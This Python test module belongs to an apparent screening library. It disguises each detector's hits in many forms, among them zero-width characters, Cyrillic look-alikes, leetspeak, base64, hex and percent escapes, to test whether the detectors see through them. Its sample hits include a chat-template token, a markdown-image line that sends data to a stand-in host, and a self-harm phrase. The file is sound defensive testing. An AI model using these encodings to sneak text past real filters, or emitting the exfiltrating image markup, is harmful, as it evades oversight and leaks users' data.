"""Forms in which a match may hide, for tests. What a form cannot hide is for the tests that use it to know."""

import base64
from collections.abc import Callable

from seawall.screen import DETECTORS, Detector, Screen
from seawall.vocabulary.findings import Surface

# With a deadline that a busy machine does not miss.
SCREEN = Screen(deadline_s=60.0)

_LEET = str.maketrans("oieas", "01345")
_CYRILLIC = str.maketrans("aeopcyx", "аеорсух")


def surface(detector: Detector) -> Surface:
    """Return a surface on which a detector looks."""
    return min(detector.surfaces)


def _wide(text: str) -> str:
    return "".join(chr(ord(letter) + 0xFEE0) if "!" <= letter <= "~" else letter for letter in text)


def _spaced(text: str) -> str:
    return "  ".join(" ".join(word) for word in text.split(" "))


def _encoded(text: str) -> str:
    # With something before it that makes slashes and plus signs, which end a word but not an encoded run.
    return base64.b64encode(f"~~?>>~ please {text} now, thanks".encode()).decode()


def _escaped(text: str) -> str:
    return "".join(f"%{byte:02x}" for byte in f"please {text}".encode())


# For every detector.
ALWAYS: dict[str, Callable[[str], str]] = {
    "plain": str,
    "zero-width inside": "\u200b".join,
    "soft hyphens inside": "\u00ad".join,
    "full-width": _wide,
}
# For detectors of wording.
WORDED: dict[str, Callable[[str], str]] = {
    "upper case": str.upper,
    "look-alikes": lambda text: text.translate(_CYRILLIC),
    "leetspeak": lambda text: text.translate(_LEET),
    "spaced out": _spaced,
    "base64": _encoded,
    "base64 twice": lambda text: base64.b64encode(_encoded(text).encode()).decode(),
    "hexadecimal": lambda text: f"please {text} now".encode().hex(),
    "percent escapes": _escaped,
}
# Markup has nothing to space out or write in leetspeak; an apostrophe is no spaced-out letter.
NOT_SEEN = {
    ("<|im_start|>", "leetspeak"), ("<|im_start|>", "spaced out"),
    ("![x](https://out.test/p?d={data})", "leetspeak"), ("![x](https://out.test/p?d={data})", "spaced out"),
    ("I don't want to live anymore", "spaced out"),
}  # fmt: skip

Case = tuple[Detector, str, str]


def cases() -> list[Case]:
    """Return detector, name of the form, and disguised hit, for every hit in every form that is seen through."""
    made = []
    for detector in DETECTORS:
        forms = ALWAYS | (WORDED if detector.wording else {})
        made += [(detector, name, form(hit)) for hit in detector.hits for name, form in forms.items()
                 if (hit, name) not in NOT_SEEN]  # fmt: skip
    return made
